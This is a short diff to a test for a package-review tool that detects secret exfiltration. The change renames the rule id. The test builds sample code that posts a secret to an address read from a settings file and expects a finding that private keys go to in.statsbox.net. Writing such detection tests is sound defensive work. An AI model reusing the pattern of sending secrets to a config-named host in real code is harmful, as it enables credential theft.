@@ -37,7 +37,7 @@ test.each([
 ])("knows the address that a file of settings holds: %s", async (_, path, text, load, address) => {
   const code = `import configparser, json, os, pathlib, requests, tomllib, yaml\n${load}\nrequests.post(${address}, data=${SECRET})\n`;
   const { findings } = await reviewPackage(packageOf({ [path]: text, "scripts/run.py": code }));
-  expect(findings.filter(({ rule }) => rule === "secret_exfiltration").map(({ message }) => message)).toEqual([
+  expect(findings.filter(({ rule }) => rule === "secret-exfiltration").map(({ message }) => message)).toEqual([
     "The program sends private keys to in.statsbox.net.",
   ]);
 });
